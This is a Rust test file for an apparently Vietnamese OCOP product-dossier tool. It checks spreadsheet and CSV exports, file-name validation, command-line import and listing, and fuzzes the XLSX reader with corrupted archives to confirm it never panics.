    assert_eq!(lacking.lacking, ["Trà xanh Đồi Mây hộp 200 g"], "the commune gave no number yet");
    enter(&mut workspace, &id, &[("commune.product_number", "3")]);
    let job = table(&workspace);
    assert!(job.lacking.is_empty());
    let path = folder.path().join("ptnt.xlsx");
    job.run_to(&path).unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(std::fs::read(&path).unwrap())).unwrap();
    let range = book.worksheet_range("PTNT_OCOP").unwrap();
    let head: Vec<String> = range.rows().next().unwrap().iter().map(ToString::to_string).collect();
    assert_eq!(
        head,
        [
            "MA_OCOP",
            "Ma_DonViHanhChinh",
            "Ma_ThoiGian",
            "Ma_SanPham",
            "TenSanPham",
            "XepHang",
            "ChuTheSXKD",
            "DoanhThuNam",
            "TrangThai",
        ]
    );
    let dossier = workspace.dossier(&id).unwrap();
    let set = format!("{:02}", dossier.set().unwrap().0);
    let row = range.rows().nth(1).unwrap();
    let wanted = [
        Data::String("19-05641-3-2026".to_owned()),
        Data::String("05641".to_owned()),
        Data::Float(2026.0),
        Data::String(set),
        Data::String("Trà xanh Đồi Mây hộp 200 g".to_owned()),
        Data::Float(4.0),
        Data::String(dossier.text("producer.name").to_owned()),
        Data::Float(5360.0),
        Data::String("Còn hiệu lực".to_owned()),
    ];
    assert_eq!(row, wanted);
    enter(&mut workspace, &id, &[("certificate.expires", "30/06/2026")]);
    let csv = folder.path().join("ptnt.csv");
    table(&workspace).run_to(&csv).unwrap();
    let rows = parsed(&std::fs::read_to_string(&csv).unwrap());
    assert_eq!(rows[1][8], "Hết hiệu lực");
}

#[test]
fn a_name_that_ends_otherwise_is_refused_and_nothing_is_written() {
    let folder = TempDir::new().unwrap();
    let workspace = common::workspace(&folder.path().join("data"));
    let job = workspace.sheet(SheetKind::Dossiers, &SheetOptions::default()).unwrap();
    for name in ["a.xls", "a", "a.pdf"] {
        let path = folder.path().join(name);
        assert_eq!(job.run_to(&path).unwrap_err().explain().id, "sheet-name");
        assert!(!path.exists());
    }
    job.run_to(&folder.path().join("rỗng.XLSX")).unwrap();
}

#[test]
fn the_command_line_saves_lists_and_imports() {
    let folder = TempDir::new().unwrap();
    let run = |arguments: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_hoso-ocop"))
            .args(arguments)
            .arg("--data")
            .arg(folder.path().join("data"))
            .args(["--today", "2026-11-23", "--author", "thử"])
            .output()
            .unwrap();
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).trim().to_owned();
        (output.status.code(), text(&output.stdout), text(&output.stderr))
    };
    let path = |name: &str| folder.path().join(name).display().to_string();
    std::fs::write(path("in.xlsx"), with(2, "27")).unwrap();
    let (code, said, _) = run(&["import", &path("in.xlsx"), "--dry-run", "--json"]);
    assert_eq!(code, Some(0));
    let said: serde_json::Value = serde_json::from_str(&said).unwrap();
    assert_eq!((said["dry_run"].as_bool(), said["bad"][0]["row"].as_u64()), (Some(true), Some(3)));
    assert_eq!(said["bad"][0]["reasons"][0]["code"], "import-not-a-set");
    assert_eq!(run(&["list"]).1, "");
    let (_, said, _) = run(&["import", &path("in.xlsx")]);
    assert!(
        said.contains("Dòng 3: Ô C3: không có bộ sản phẩm “27”") && said.contains("Đã nhập 1 sản phẩm."),
        "{said}"
    );
    for (name, search, rows) in [("a.xlsx", "tra xanh", 1), ("b.xlsx", "mat ong", 0)] {
        let (code, said, _) = run(&["list", "--xlsx", &path(name), "--search", search, "--json"]);
        let said: serde_json::Value = serde_json::from_str(&said).unwrap();
        assert_eq!((code, said["rows"].as_u64()), (Some(0), Some(rows)));
        assert_eq!(cells(&std::fs::read(path(name)).unwrap()).len() as u64, rows);
    }
    for kind in ["producers", "products", "papers", "ptnt-ocop"] {
        for ending in ["xlsx", "csv"] {
            let out = path(&format!("{kind}.{ending}"));
            assert_eq!(run(&["sheet", kind, &out]).0, Some(0));
            assert!(std::fs::metadata(&out).unwrap().len() > 50, "{out}");
        }
    }
    let (code, _, error) = run(&["sheet", "gì đó", &path("x.xlsx")]);
    assert_eq!((code, error.contains("producers")), (Some(2), true));
    let (code, _, error) = run(&["import", &path("a.xlsx.txt")]);
    assert_eq!((code, error.lines().count()), (Some(2), 1));
    assert_eq!(run(&["template", &path("mẫu.xlsx")]).0, Some(0));
    let (code, _, error) = run(&["import", &path("mẫu.xlsx")]);
    assert_eq!((code, error.as_str()), (Some(2), "Dưới dòng tiêu đề không có dòng nào để nhập."));
}

/// As many changed files as elsewhere: none breaks the reader, whatever it makes of them.
#[test]
fn changed_files_never_break_the_reader() {
    const ROUNDS: usize = 2_000;
    let filled: Vec<&[&str]> = vec![&HEAD, &GOOD, &GOOD, &GOOD];
    let plain = |bytes: &[u8]| {
        let change = |_: &str, held: Vec<u8>| Some(held);
        let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
        let mut parts = BTreeMap::new();
        for place in 0..archive.len() {
            let mut entry = archive.by_index(place).unwrap();
            let mut held = Vec::new();
            entry.read_to_end(&mut held).unwrap();
            parts.insert(entry.name().unwrap().to_string(), held);
        }
        (repacked(bytes, change, &[]), parts)
    };
    let (good, parts) = plain(&book(&filled));
    let names: Vec<&String> = parts.keys().collect();
    let mut dice = Dice(20_261_127);
    let (mut broken, mut taken) = (Vec::new(), 0);
    for round in 0..ROUNDS {
        // Half of them within a part, where the archive is whole and the XML is not.
        let bytes = if round % 2 == 0 {
            mutated(&good, &mut dice)
        } else {
            let name = names[dice.below(names.len())];
            let changed = mutated(&parts[name], &mut dice);
            repacked(&good, |part, held| Some(if part == name { changed.clone() } else { held }), &[])
        };
        match catch_unwind(AssertUnwindSafe(|| read_xlsx(&bytes).is_ok())) {
            Ok(true) => taken += 1,
            Ok(false) => {}
            Err(_) => broken.push(round),
        }
    }
    println!("{taken} of {ROUNDS} could still be read");
    assert!(broken.is_empty(), "{broken:?}");
    assert!((1..ROUNDS).contains(&taken));
}

/// A copy with some bits, bytes or stretches changed.
fn mutated(good: &[u8], dice: &mut Dice) -> Vec<u8> {
    let mut bytes = good.to_vec();
    for _ in 0..=dice.below(3) {
        if bytes.is_empty() {
            break;
        }
        let at = dice.below(bytes.len());
        let span = 1 + dice.below(48.min(bytes.len() - at));
        match dice.below(6) {
            0 => bytes[at] ^= 1 << dice.below(8),
            1 => bytes[at] = b"\0<>\"/&9A"[dice.below(8)],
            2 => bytes.truncate(at),
            3 => {
                bytes.drain(at..at + span);
            }
            4 => {
                let copy = bytes[at..at + span].to_vec();
                let to = dice.below(bytes.len());
                bytes.splice(to..to, copy);
            }
            _ => {
                let number = [0, u32::MAX, i32::MAX as u32, 1_048_577][dice.below(4)].to_string();
                bytes.splice(at..at, number.into_bytes());
            }
        }
    }
    bytes
}
